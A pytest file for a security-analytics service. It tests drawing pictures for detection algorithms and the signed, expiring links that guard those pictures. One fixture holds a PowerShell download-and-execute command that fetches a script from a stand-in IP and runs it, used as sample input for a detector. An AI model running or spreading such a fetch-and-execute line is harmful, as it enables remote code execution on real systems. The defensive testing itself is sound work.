"""plot=true: a picture besides the result, and who may see it."""

import csv
import io
import time
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest

from app import links
from app.secrets import Secret
from tests.pictures import samples
from tests.running_service import TOKEN, RunningService, running_service

_PLOT = {"plot": "true"}


def csv_of(rows: list[dict[str, object]]) -> str:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


CONNECTIONS = csv_of(
    [
        {"_time": 1_780_000_000 + 60 * n, "source_ip": "192.0.2.1", "dest_ip": "198.51.100.7"}
        for n in range(40)
    ]
)
HOURS = csv_of(
    [
        {"_time": 1_780_000_000 + 3600 * n, "count": 10 + n % 24 + 500 * (n == 99)}
        for n in range(240)
    ]
)
SESSIONS = csv_of(
    [
        {"_time": 1_780_000_000 + 600 * (n // 3) + n, "user": f"u{n % 3}", "command": f"c{n % 7}"}
        for n in range(90)
    ]
)
NUMBERS = csv_of([{"bytes": n % 7 + 900 * (n == 5), "seconds": n % 5} for n in range(200)])
PROCESSES = csv_of(
    [
        {
            "_time": 1_780_000_000 + n,
            "host": "h",
            "ProcessId": 100 + n,
            "ParentProcessId": 99 + n,
            "Image": rf"C:\Windows\p{n}.exe",
            "CommandLine": samples.HOSTILE,
        }
        for n in range(20)
    ]
)
COMMANDS = csv_of([{"host": "h", "line": "powershell iwr http://203.0.113.5/a.ps1 | iex"}])
LOGONS = csv_of([{"user": f"u{n % 4}", "logon_type": str(n % 2)} for n in range(40)])
EVENTS = csv_of([{"_time": 1_780_000_000, "text": samples.HOSTILE}])


@pytest.mark.parametrize(
    ("algo", "data", "params"),
    [
        ("timeseries_anomaly", HOURS, {}),
        ("outliers", NUMBERS, {}),
        ("event_clusters", LOGONS, {"names": "logon_type", "accounts": "user"}),
        ("rare_sessions", SESSIONS, {"event": "command", "by": "user"}),
        ("process_tree", PROCESSES, {}),
        ("beaconing", CONNECTIONS, {}),
        ("powershell_ioc", COMMANDS, {"field": "line"}),
        ("ioc_extract", EVENTS, {}),
    ],
)
def test_model_draws_a_picture_that_its_result_links_to(
    service: RunningService, algo: str, data: str, params: dict[str, str]
) -> None:
    answer = service.fit(data, algo, "drawn", params={**params, **_PLOT})
    assert answer["status"] == "success", answer["message"]
    assert "error" not in answer["graphics"], answer["graphics"]
    rows = list(csv.DictReader(io.StringIO(answer["results"])))
    assert {row["picture"] for row in rows} == {answer["graphics"]["page"]}
    status, page = service.request(answer["graphics"]["page"], authorization=None)
    assert status == 200
    assert "<script>alert" not in page
    assert service.request(answer["graphics"]["image"], authorization=None)[0] == 200


def test_module_says_by_itself_what_to_draw(service: RunningService) -> None:
    service.module(
        "painter",
        """
        def init(df, param): return {}
        def fit(model, df, param): pass
        def apply(model, df, param): return df
        def save(model, name): return model
        def plot(model, df, result, param):
            from app import pictures
            return [pictures.scatter(df, "a", "b", title="My own")]
        """,
    )
    answer = service.fit("a,b\n1,2\n", "painter", "own", params=_PLOT)
    assert "My own" in service.request(answer["graphics"]["page"])[1]


def test_summary_links_to_the_last_picture(service: RunningService) -> None:
    service.fit(NUMBERS, "outliers", "told", params=_PLOT)
    page, _image = service.summary()["graphics"]
    assert urlsplit(page).path == "/graphics/outliers_told.html"
    assert service.request(page, authorization=None)[0] == 200
    service.fit(NUMBERS, "outliers", "told")
    assert "graphics" not in service.summary()


def test_result_without_plot_has_no_further_column(service: RunningService) -> None:
    answer = service.fit(NUMBERS, "outliers", "plain")
    assert "picture" not in answer["results"].splitlines()[0]
    assert "graphics" not in answer


def test_what_cannot_be_drawn_loses_nothing(service: RunningService) -> None:
    answer = service.fit("a\nx\n", "ioc_extract", "undrawn", params=_PLOT)
    assert answer["status"] == "success"
    assert "a picture needs a field of times (_time)" in answer["graphics"]["error"]


def test_plot_that_is_neither_true_nor_false_is_refused(service: RunningService) -> None:
    answer = service.fit(NUMBERS, "outliers", "wrong", params={"plot": "perhaps"})
    assert answer["status"] == "error"
    assert "plot is 'perhaps': use true or false" in answer["message"]


def signed(service: RunningService, **changes: str) -> str:
    (service.srv / "app" / "graphics" / "x.svg").write_text("<svg/>")
    (service.srv / "app" / "graphics" / "other.svg").write_text("<svg/>")
    link = urlsplit(links.signed("x.svg", links.key(Secret(TOKEN)), 60))
    query = {name: values[0] for name, values in parse_qs(link.query).items()} | changes
    return f"{link.path}?{urlencode(query)}"


def test_signed_link_needs_no_token(service: RunningService) -> None:
    assert service.request(signed(service), authorization=None)[0] == 200


@pytest.mark.parametrize(
    "changes",
    [
        {"signature": "0" * 64},
        {"signature": ""},
        {"signature": "\u00e9"},
        {"expires": str(int(time.time()) + 10_000)},
        {"expires": "soon"},
        {"expires": ""},
    ],
)
def test_changed_link_is_refused(service: RunningService, changes: dict[str, str]) -> None:
    assert service.request(signed(service, **changes), authorization=None)[0] == 401


def test_link_is_for_one_picture_and_nothing_else(service: RunningService) -> None:
    link = signed(service)
    assert service.request(link.replace("x.svg", "other.svg"), authorization=None)[0] == 401
    assert (
        service.request(link.replace("/graphics/x.svg", "/summary"), authorization=None)[0] == 401
    )


def test_link_expires(service: RunningService) -> None:
    signed(service)
    link = links.signed("x.svg", links.key(Secret(TOKEN)), -1)
    assert service.request(link, authorization=None)[0] == 401


def test_pictures_are_public_only_where_a_setting_says_so() -> None:
    with running_service(GRAPHICS_PUBLIC="true") as public:
        signed(public)
        assert public.request("/graphics/x.svg", authorization=None)[0] == 200
        assert public.request("/summary", authorization=None)[0] == 401


def test_link_answers_a_request_for_the_head(service: RunningService) -> None:
    link = signed(service)
    assert service.request(link, authorization=None, method="HEAD")[0] == 200
